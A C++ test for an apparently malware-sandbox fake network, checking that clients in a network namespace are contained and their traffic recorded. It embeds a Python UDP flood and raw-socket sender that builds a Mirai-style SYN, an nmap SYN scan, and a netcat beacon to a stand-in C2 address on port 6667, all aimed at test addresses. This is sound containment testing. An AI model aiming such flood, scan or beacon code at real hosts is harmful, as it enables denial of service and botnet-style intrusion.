// The fake network with real clients: a child process unshares a network namespace, creates the
// TUN device fake0 there (198.51.100.77/24, default route via fake0), passes its fd to this
// process over SCM_RIGHTS and then runs busybox nslookup / nc / ping, curl, a Python UDP flood
// and raw-socket sender, and nmap -sS inside
// the namespace. FakeNet serves the fd here. A tcpdump on the host's "any" interface watches for
// the addresses the clients use and must see nothing. Needs root (CAP_NET_ADMIN, unshare).

#include <chrono>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>

#include <arpa/inet.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <linux/if.h>
#include <linux/if_tun.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <spawn.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "sandbox/fakenet/fake_net.h"
#include "support/temp_dir.h"

extern char** environ;

namespace kansoku::sandbox::fakenet {
namespace {

// Addresses used only by this test (TEST-NET), so the host-side capture can look for exactly them.
constexpr const char* kResolver = "8.8.8.8";
constexpr const char* kWebServer = "198.51.100.205";
constexpr const char* kC2 = "192.0.2.66";
constexpr const char* kPingTarget = "203.0.113.219";
constexpr const char* kScanTarget = "203.0.113.218";
constexpr const char* kFloodTarget = "192.0.2.199";
constexpr const char* kRawTarget = "203.0.113.217";

// A UDP flood (50 datagrams to port 1900) and, from raw sockets, one GRE packet and one
// Mirai-style SYN (sequence number = destination address), as a bot's own code would send them.
constexpr const char* kRawSenders = R"PY(
import socket, struct, sys
flood, raw = sys.argv[1], sys.argv[2]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(50):
    u.sendto(b"A" * 100, (flood, 1900))
g = socket.socket(socket.AF_INET, socket.SOCK_RAW, 47)
g.sendto(b"\x00\x00\x08\x00" + b"G" * 20, (raw, 0))
t = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
dst = struct.unpack("!I", socket.inet_aton(raw))[0]
def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s & 0xffff) + (s >> 16); s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
seg = struct.pack("!HHIIBBHHH", 40123, 23, dst, 0, 0x50, 0x02, 14600, 0, 0)
pseudo = socket.inet_aton("198.51.100.77") + socket.inet_aton(raw) + struct.pack("!BBH", 0, 6, len(seg))
seg = seg[:16] + struct.pack("!H", csum(pseudo + seg)) + seg[18:]
t.sendto(seg, (raw, 0))
)PY";
// A loopback address the host itself sends one datagram to: proves the host capture sees packets.
constexpr const char* kControl = "127.0.0.211";

std::string readFile(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    std::stringstream s;
    s << in.rdbuf();
    return s.str();
}

bool sendFd(int socket, int fd) {
    char byte = 'F';
    iovec io{&byte, 1};
    alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int))] = {};
    msghdr msg{};
    msg.msg_iov = &io;
    msg.msg_iovlen = 1;
    msg.msg_control = control;
    msg.msg_controllen = sizeof control;
    cmsghdr* c = CMSG_FIRSTHDR(&msg);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    std::memcpy(CMSG_DATA(c), &fd, sizeof(int));
    return ::sendmsg(socket, &msg, 0) == 1;
}

int receiveFd(int socket) {
    char byte = 0;
    iovec io{&byte, 1};
    alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int))] = {};
    msghdr msg{};
    msg.msg_iov = &io;
    msg.msg_iovlen = 1;
    msg.msg_control = control;
    msg.msg_controllen = sizeof control;
    if (::recvmsg(socket, &msg, 0) != 1 || byte != 'F') {
        return -1;
    }
    cmsghdr* c = CMSG_FIRSTHDR(&msg);
    if (c == nullptr || c->cmsg_type != SCM_RIGHTS) {
        return -1;
    }
    int fd = -1;
    std::memcpy(&fd, CMSG_DATA(c), sizeof(int));
    return fd;
}

/// The child: namespace, TUN, fd to the parent, wait for "go", run the clients. Only async-signal
/// safe-ish calls and system(); never returns.
[[noreturn]] void runChild(int socket, const std::string& dir) {
    if (::unshare(CLONE_NEWNET) != 0) {
        (void)!::write(socket, "U", 1);
        ::_exit(2);
    }
    const int tun = ::open("/dev/net/tun", O_RDWR | O_CLOEXEC);
    ifreq ifr{};
    std::strncpy(ifr.ifr_name, "fake0", IFNAMSIZ - 1);
    ifr.ifr_flags = IFF_TUN | IFF_NO_PI;
    if (tun < 0 || ::ioctl(tun, TUNSETIFF, &ifr) != 0) {
        (void)!::write(socket, "T", 1);
        ::_exit(3);
    }
    const int setup = std::system("ip link set lo up && ip link set fake0 up && "
                                  "ip addr add 198.51.100.77/24 dev fake0 && ip route add default dev fake0");
    if (setup != 0 || !sendFd(socket, tun)) {
        ::_exit(4);
    }
    ::close(tun);
    char go = 0;
    if (::read(socket, &go, 1) != 1) {
        ::_exit(5);
    }
    const std::string commands[] = {
        "timeout 10 busybox nslookup c2.example.test " + std::string(kResolver) + " > " + dir + "/nslookup.txt 2>&1",
        // curl, not busybox wget: Debian 12's busybox-static 1.35 wget segfaults (even against loopback).
        "timeout 10 curl -sS -m 5 -o " + dir + "/wget.out http://" + kWebServer + "/x > " + dir + "/wget.txt 2>&1",
        "echo hello-c2 | timeout 10 busybox nc " + std::string(kC2) + " 6667 > " + dir + "/nc.txt 2>&1",
        "timeout 10 busybox ping -c 1 -W 3 " + std::string(kPingTarget) + " > " + dir + "/ping.txt 2>&1",
        "timeout 10 python3 " + dir + "/raw_senders.py " + kFloodTarget + " " + kRawTarget + " > " + dir +
            "/raw.txt 2>&1",
        "timeout 30 nmap -sS -Pn -n -e fake0 --max-retries 1 -p 22,23,80 " + std::string(kScanTarget) + " > " + dir +
            "/nmap.txt 2>&1",
    };
    for (const auto& command : commands) {
        (void)!std::system(command.c_str());
    }
    ::_exit(0);
}

/// tcpdump on the host (this process's network namespace), started and stopped by the test.
class HostCapture {
public:
    bool start(const std::string& dir) {
        path_ = dir + "/host.pcap";
        const std::string log = dir + "/tcpdump.log";
        const std::string filter = std::string("host ") + kResolver + " or host " + kWebServer + " or host " + kC2 +
                                   " or host " + kPingTarget + " or host " + kScanTarget +
                                   " or host 198.51.100.250 or host " + kFloodTarget + " or host " + kRawTarget +
                                   " or host " + kControl;
        posix_spawn_file_actions_t actions;
        posix_spawn_file_actions_init(&actions);
        posix_spawn_file_actions_addopen(&actions, STDERR_FILENO, log.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
        std::vector<std::string> args = {"tcpdump", "-i", "any", "-n", "-U", "--immediate-mode", "-w", path_, filter};
        std::vector<char*> argv;
        for (auto& a : args) {
            argv.push_back(a.data());
        }
        argv.push_back(nullptr);
        const int rc = ::posix_spawnp(&pid_, "tcpdump", &actions, nullptr, argv.data(), environ);
        posix_spawn_file_actions_destroy(&actions);
        if (rc != 0) {
            pid_ = -1;
            return false;
        }
        for (int i = 0; i < 100; ++i) { // up to 10 s for "listening on"
            if (readFile(log).find("listening on") != std::string::npos) {
                return true;
            }
            std::this_thread::sleep_for(std::chrono::milliseconds(100));
        }
        return false;
    }
    struct Seen {
        int control = 0; ///< packets to or from kControl
        int other = 0;   ///< anything else the filter let through: a leak
        bool readable = false;
    };
    /// Stops tcpdump and reads its capture: a 24-byte file header (link type at offset 20), then per
    /// packet a 16-byte record header and caplen bytes, all in this host's byte order.
    Seen stop() {
        if (pid_ > 0) {
            ::kill(pid_, SIGINT);
            int status = 0;
            ::waitpid(pid_, &status, 0);
            pid_ = -1;
        }
        Seen seen;
        const std::string pcap = readFile(path_);
        if (pcap.size() < 24) {
            return seen;
        }
        uint32_t link_type = 0;
        std::memcpy(&link_type, pcap.data() + 20, 4);
        const size_t link_header = link_type == 276 ? 20 : link_type == 113 ? 16 : 0; // SLL2, SLL
        in_addr control{};
        ::inet_pton(AF_INET, kControl, &control);
        size_t at = 24;
        while (at + 16 <= pcap.size()) {
            uint32_t caplen = 0;
            std::memcpy(&caplen, pcap.data() + at + 8, 4);
            const char* ip = pcap.data() + at + 16 + link_header;
            bool is_control = false;
            if (link_header != 0 && caplen >= link_header + 20 && at + 16 + caplen <= pcap.size()) {
                is_control = std::memcmp(ip + 12, &control, 4) == 0 || std::memcmp(ip + 16, &control, 4) == 0;
            }
            ++(is_control ? seen.control : seen.other);
            at += 16 + caplen;
        }
        seen.readable = at == pcap.size();
        return seen;
    }
    ~HostCapture() { (void)stop(); }

private:
    pid_t pid_ = -1;
    std::string path_;
};

TEST(FakeNetNamespaceTest, RealClientsInANamespaceSeeAFakeInternet) {
    if (::geteuid() != 0) {
        GTEST_SKIP() << "needs root: creates a network namespace and a TUN device";
    }
    if (::access("/dev/net/tun", R_OK | W_OK) != 0) {
        GTEST_SKIP() << "no /dev/net/tun";
    }
    for (const char* tool : {"busybox", "curl", "nmap", "tcpdump", "ip", "python3"}) {
        if (std::system((std::string("command -v ") + tool + " > /dev/null").c_str()) != 0) {
            GTEST_SKIP() << tool << " is not installed";
        }
    }
    kansoku::testing::TempDir dir;
    std::ofstream(dir.file("raw_senders.py")) << kRawSenders;
    int sockets[2];
    ASSERT_EQ(::socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sockets), 0);
    const pid_t child = ::fork();
    ASSERT_GE(child, 0);
    if (child == 0) {
        ::close(sockets[0]);
        runChild(sockets[1], dir.path().string());
    }
    ::close(sockets[1]);
    const int tun = receiveFd(sockets[0]);
    if (tun < 0) {
        ::close(sockets[0]);
        int status = 0;
        ::waitpid(child, &status, 0);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 2) {
            GTEST_SKIP() << "unshare(CLONE_NEWNET) is not permitted here";
        }
        FAIL() << "the child could not set up the namespace and TUN (exit " << WEXITSTATUS(status) << ")";
    }

    HostCapture host;
    ASSERT_TRUE(host.start(dir.path().string())) << readFile(dir.file("tcpdump.log"));

    FakeNetConfig config;
    config.tcp.idle_timeout = kMicrosPerSecond; // nc waits for the server: close it after a second
    const std::string http = "HTTP/1.0 200 OK\r\nContent-Length: 9\r\n\r\nfake-body";
    config.tcp.replies[80] = std::vector<uint8_t>(http.begin(), http.end());
    FakeNet net(config);
    ASSERT_TRUE(net.start(tun));
    ASSERT_EQ(::write(sockets[0], "G", 1), 1);
    int status = 0;
    ASSERT_EQ(::waitpid(child, &status, 0), child);
    EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0);
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
    ASSERT_TRUE(net.stop());
    ::close(tun);
    ::close(sockets[0]);
    // The positive control: one datagram on the host's loopback, which the capture must see.
    const int control = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(9);
    ::inet_pton(AF_INET, kControl, &to.sin_addr);
    EXPECT_EQ(::sendto(control, "x", 1, 0, reinterpret_cast<const sockaddr*>(&to), sizeof to), 1);
    ::close(control);
    std::this_thread::sleep_for(std::chrono::milliseconds(300));
    const HostCapture::Seen host_seen = host.stop();

    const NetworkObservation o = net.observation();
    const std::string json = o.toJson().dump(2);
    SCOPED_TRACE(json);

    // DNS to the hard-coded resolver, answered with the sinkhole.
    bool saw_query = false;
    for (const auto& d : o.dns) {
        saw_query |= d.qname == "c2.example.test" && d.resolver.toString() == kResolver && d.qtype == 1 &&
                     d.answer == "198.51.100.250";
    }
    EXPECT_TRUE(saw_query);
    EXPECT_NE(readFile(dir.file("nslookup.txt")).find("198.51.100.250"), std::string::npos)
        << readFile(dir.file("nslookup.txt"));

    // HTTP: the request bytes recorded, the fake reply delivered.
    const ConnectionRecord* web = nullptr;
    const ConnectionRecord* c2 = nullptr;
    for (const auto& c : o.connections) {
        if (c.dst.toString() == kWebServer && c.dst_port == 80) {
            web = &c;
        }
        if (c.dst.toString() == kC2 && c.dst_port == 6667) {
            c2 = &c;
        }
    }
    ASSERT_NE(web, nullptr) << readFile(dir.file("wget.txt"));
    EXPECT_EQ(std::string(web->first_bytes.begin(), web->first_bytes.end()).rfind("GET /x HTTP/1.", 0), 0U);
    EXPECT_EQ(readFile(dir.file("wget.out")), "fake-body") << readFile(dir.file("wget.txt"));
    ASSERT_NE(c2, nullptr) << readFile(dir.file("nc.txt"));
    EXPECT_EQ(std::string(c2->first_bytes.begin(), c2->first_bytes.end()), "hello-c2\n");

    // ping: "online".
    EXPECT_GE(o.counters.icmp_echo_replies, 1U);
    EXPECT_NE(readFile(dir.file("ping.txt")).find("1 packets received"), std::string::npos)
        << readFile(dir.file("ping.txt"));

    // nmap -sS: three probed ports on the scan target, fingerprinted as nmap.
    for (const uint16_t port : {22, 23, 80}) {
        EXPECT_GE(o.tcp_syn.countFor(port), 1U) << port;
    }
    EXPECT_GE(o.fingerprintCount(darknet::ScannerTool::Nmap), 3U);
    EXPECT_NE(readFile(dir.file("nmap.txt")).find("open"), std::string::npos) << readFile(dir.file("nmap.txt"));

    // The flood and the raw-socket packets: summarised, the Mirai SYN fingerprinted.
    EXPECT_EQ(o.udp.countFor(1900), 50U) << readFile(dir.file("raw.txt"));
    EXPECT_EQ(o.other.countFor(47), 1U);
    EXPECT_GE(o.fingerprintCount(darknet::ScannerTool::Mirai), 1U);

    // Nothing reached the host: its capture holds the control datagram and nothing else.
    EXPECT_TRUE(host_seen.readable);
    EXPECT_GE(host_seen.control, 1) << "the host capture missed the control datagram: "
                                    << readFile(dir.file("tcpdump.log"));
    EXPECT_EQ(host_seen.other, 0) << "the host saw packets for the namespace's addresses";
}

} // namespace
} // namespace kansoku::sandbox::fakenet
